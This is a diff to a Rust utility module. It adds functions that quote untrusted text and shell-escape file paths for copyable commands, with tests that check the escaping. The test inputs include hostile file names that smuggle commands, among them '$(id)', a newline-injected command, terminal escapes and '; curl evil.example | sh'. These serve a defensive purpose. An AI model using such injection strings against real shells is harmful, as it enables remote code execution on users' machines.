@@ -52,6 +52,55 @@ pub fn printable_path(path: &Path) -> String {
     printable_os(path.as_os_str())
 }
 
+/// Words that somebody else may have chosen, as a quotation: as [`printable`], cut to `most` characters, between marks that
+/// nothing in them closes. What stands outside of the marks is ours.
+pub fn quotation(words: &str, most: usize) -> String {
+    let printable = printable(words);
+    let mut quoted = String::from("\"");
+    quoted.extend(printable.chars().take(most).map(|c| if c == '"' { '\'' } else { c }));
+    if printable.chars().nth(most).is_some() {
+        quoted.push('…');
+    }
+    quoted.push('"');
+    quoted
+}
+
+/// A value that somebody else has chosen, in a sentence of ours: as it is where it is one plain word, else a quotation.
+pub fn value(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "\"._-+@/:,[]{}=~%?&#".contains(c);
+    if !text.is_empty() && text.len() <= FOREIGN_CHARS_MAX && text.chars().all(is_plain) {
+        return text.to_owned();
+    }
+    quotation(text, FOREIGN_CHARS_MAX)
+}
+
+/// A path as a word of a command that is to be copied into a shell: it means that path there, whatever it is called.
+pub fn in_shell(path: &Path) -> String {
+    let bytes = path.as_os_str().as_encoded_bytes();
+    let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"/._-+@%,:=".contains(byte);
+    // A name that begins with a dash would be a flag.
+    let dash = if bytes.first() == Some(&b'-') { "./" } else { "" };
+    if !bytes.is_empty() && bytes.iter().all(is_plain) {
+        return format!("{dash}{}", String::from_utf8_lossy(bytes));
+    }
+    match path.to_str().filter(|text| !text.chars().any(is_treacherous)) {
+        Some(text) => format!("'{dash}{}'", text.replace('\'', "'\\''")),
+        // What acts on a terminal, or is no text, by its numbers.
+        None => {
+            let mut word = format!("$'{dash}");
+            for &byte in bytes {
+                let written = if byte == b' ' || is_plain(&byte) {
+                    write!(word, "{}", char::from(byte))
+                } else {
+                    write!(word, "\\x{byte:02x}")
+                };
+                written.expect("writing to a String never fails");
+            }
+            word + "'"
+        }
+    }
+}
+
 /// The longest foreign text that is kept, in characters.
 const FOREIGN_CHARS_MAX: usize = 200;
 
@@ -171,6 +220,51 @@ mod tests {
         for text in ["", "cpu-pearl 0.1.0", "Zürich — 東京 🙂", "C:\\path"] {
             assert!(matches!(printable(text), Cow::Borrowed(same) if same == text), "{text}");
         }
+    }
+
+    #[test]
+    fn nothing_in_a_quotation_ends_it() {
+        assert_eq!(quotation("no card", 40), "\"no card\"");
+        assert_eq!(quotation("no\"; run `x`: \"", 40), "\"no'; run `x`: '\"");
+        assert_eq!(quotation("東京東京", 3), "\"東京東…\"");
+        assert_eq!(quotation("a\nb", 3), "\"a\\n…\"");
+        assert_eq!(quotation("", 3), "\"\"");
+        for plain in ["8000", "\"/models\"", "https://example.org/a?b=c#d"] {
+            assert_eq!(value(plain), plain);
+        }
+        assert_eq!(value("0; run `x`"), "\"0; run `x`\"");
+    }
+
+    /// The remedy that names a file is copied by whoever trusts us, and the file was named by somebody else.
+    #[cfg(unix)]
+    #[test]
+    fn a_path_in_a_command_is_that_path_and_no_other_command_whatever_it_is_called() {
+        use std::os::unix::ffi::OsStrExt;
+        let names: [&[u8]; 12] = [
+            b"/home/me/plugins/cpu-pearl_1.0+b.so",
+            b"/home/me/my plugins/x.so",
+            b"/p/x; curl evil.example | sh #.so",
+            b"/p/$(id).so",
+            b"/p/`id`.so",
+            b"/p/it's; id.so",
+            b"/p/'; id; '.so",
+            b"/p/a\nid\n.so",
+            b"/p/\x1b[2J' id \x1b.so",
+            b"/p/\xff' $(id) \xc0.so",
+            b"-rf",
+            "/p/\u{202e}münze.so".as_bytes(),
+        ];
+        for name in names {
+            let word = in_shell(Path::new(OsStr::from_bytes(name)));
+            assert_eq!(printable(&word), word);
+            // `$'…'` is bash's, and since 2024 every shell's.
+            let said = std::process::Command::new("bash").args(["-c", &format!("printf %s {word}")]).output();
+            let Ok(said) = said else { continue };
+            let said = said.stdout.strip_prefix(b"./").unwrap_or(&said.stdout);
+            assert_eq!(String::from_utf8_lossy(said), String::from_utf8_lossy(name), "{word}");
+        }
+        assert_eq!(in_shell(Path::new("/a/b-c.so")), "/a/b-c.so");
+        assert_eq!(in_shell(Path::new("")), "''");
     }
 
     #[test]
